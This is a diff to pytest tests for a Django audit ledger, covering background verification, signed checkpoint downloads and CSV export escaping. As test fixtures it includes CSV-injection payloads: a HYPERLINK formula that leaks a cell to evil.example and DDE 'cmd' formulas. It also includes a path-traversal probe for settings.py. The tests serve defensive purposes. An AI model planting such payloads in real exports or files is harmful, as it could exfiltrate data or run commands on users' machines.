@@ -6,6 +6,7 @@ import json
 import pytest
 from django.db import transaction
 
+from audit.models import AuditEvent, LedgerVerification
 from audit.services import record_event
 
 
@@ -79,15 +80,109 @@ def test_json_export_honours_the_filter(client, auditor, events):
     assert data[1]["actor"] == "system" and data[1]["hash"] == events[2].hash
 
 
-def test_verify_page_reports_an_intact_ledger(client, auditor, events):
+def test_verify_page_does_not_walk_the_chain_in_the_request(client, auditor, events, django_assert_max_num_queries):
+    """G8: at a million events the walk takes minutes; the page only lists verifications."""
     client.force_login(auditor)
-    response = client.get("/audit/verify/")
+    with django_assert_max_num_queries(12):
+        response = client.get("/audit/verify/")
     assert response.status_code == 200
-    assert response.context["checked"] == 3 and response.context["problem"] is None
-    assert "The ledger is intact" in response.content.decode()
+    assert not LedgerVerification.objects.exists()
+    assert "Start a verification" in response.content.decode()
 
 
-@pytest.mark.parametrize("url", ["/audit/", "/audit/verify/", "/audit/export.csv", "/audit/export.json"])
+def test_auditor_starts_a_background_verification_and_follows_its_progress(
+        client, auditor, events, django_capture_on_commit_callbacks):
+    client.force_login(auditor)
+    with django_capture_on_commit_callbacks(execute=False) as callbacks:
+        response = client.post("/audit/verify/start/")
+    verification = LedgerVerification.objects.get()
+    assert response.status_code == 302 and response["Location"] == f"/audit/verify/{verification.pk}/"
+    assert verification.status == "queued" and verification.requested_by == auditor and not verification.full
+    assert AuditEvent.objects.filter(action="ledger.verification_requested", actor=auditor).count() == 1
+
+    queued = client.get(f"/audit/verify/{verification.pk}/", HTTP_HX_REQUEST="true")
+    assert 'hx-trigger="every 2s"' in queued.content.decode()  # the fragment polls while it runs
+
+    for callback in callbacks:  # the task, eager in tests, runs once the request has committed
+        callback()
+    verification.refresh_from_db()
+    assert verification.status == "intact" and verification.checked == 4  # 3 events + the request itself
+    done = client.get(f"/audit/verify/{verification.pk}/", HTTP_HX_REQUEST="true").content.decode()
+    assert "The ledger is intact" in done and "every 2s" not in done
+
+
+def test_the_page_reports_a_broken_ledger_naming_the_event(client, auditor, events, django_capture_on_commit_callbacks):
+    from tests.audit.test_ledger import _raw_update
+
+    _raw_update(events[1].pk, "action", "agreement.rejected")
+    client.force_login(auditor)
+    with django_capture_on_commit_callbacks(execute=True):
+        response = client.post("/audit/verify/start/", {"full": "1"})
+    page = client.get(response["Location"]).content.decode()
+    assert "The ledger is not intact" in page and f"event #2 (id {events[1].pk})" in page
+
+
+def test_verification_start_is_post_only(client, auditor, events):
+    client.force_login(auditor)
+    assert client.get("/audit/verify/start/").status_code == 405
+    assert not LedgerVerification.objects.exists()
+
+
+def test_auditor_downloads_the_signed_checkpoints(client, auditor, events):
+    from audit.checkpoints import write_checkpoint
+
+    checkpoint = write_checkpoint(reason="test")
+    client.force_login(auditor)
+    page = client.get("/audit/verify/").content.decode()
+    assert checkpoint.name in page
+    response = client.get(f"/audit/checkpoints/{checkpoint.name}")
+    assert response.status_code == 200 and "attachment" in response["Content-Disposition"]
+    body = json.loads(b"".join(response.streaming_content))
+    assert body["seq"] == 3 and body["hash"] == events[2].hash and body["signature"]
+    assert client.get("/audit/checkpoints/checkpoint-000000000099-20250101T000000000000Z.json").status_code == 404
+    assert client.get("/audit/checkpoints/..%2Fsettings.py").status_code == 404
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+@pytest.mark.parametrize("title", FORMULAS)
+def test_csv_export_neutralises_formula_cells(client, auditor, title):
+    """Issue 10 point 4 (OWASP CSV injection): a dataset titled like a formula is exported inert."""
+    with transaction.atomic():
+        record_event(actor=auditor, action="dataset.created", target=("datasets_app.dataset", 7),
+                     after={"title": title})
+        evil = AuditEvent.objects.get()
+    # target_repr and actor_repr are free text too: put the formula where a spreadsheet sees it first.
+    from tests.audit.test_ledger import _raw_update
+    _raw_update(evil.pk, "target_repr", title)
+    client.force_login(auditor)
+    rows = list(csv.reader(io.StringIO(_text(client.get("/audit/export.csv")))))
+    header, row = rows[0], rows[1]
+    cell = row[header.index("target_repr")]
+    assert cell == "'" + title
+    for value in row:
+        assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
+    assert row[header.index("seq")] == "1"
+
+
+def test_csv_safe_leaves_ordinary_values_alone():
+    from audit.exports import csv_safe
+
+    assert csv_safe("agreement.approved") == "agreement.approved"
+    assert csv_safe(-3) == -3 and csv_safe(None) is None
+    assert csv_safe('{"title": "=1+1"}') == '{"title": "=1+1"}'
+    assert csv_safe("=1+1") == "'=1+1"
+
+
+@pytest.mark.parametrize("url", ["/audit/", "/audit/verify/", "/audit/verify/1/", "/audit/export.csv", "/audit/export.json"])
 @pytest.mark.parametrize("fixture", ["contributor", "researcher", "legal", "ml_admin"])
 def test_non_auditors_are_refused(client, request, events, url, fixture):
     client.force_login(request.getfixturevalue(fixture))
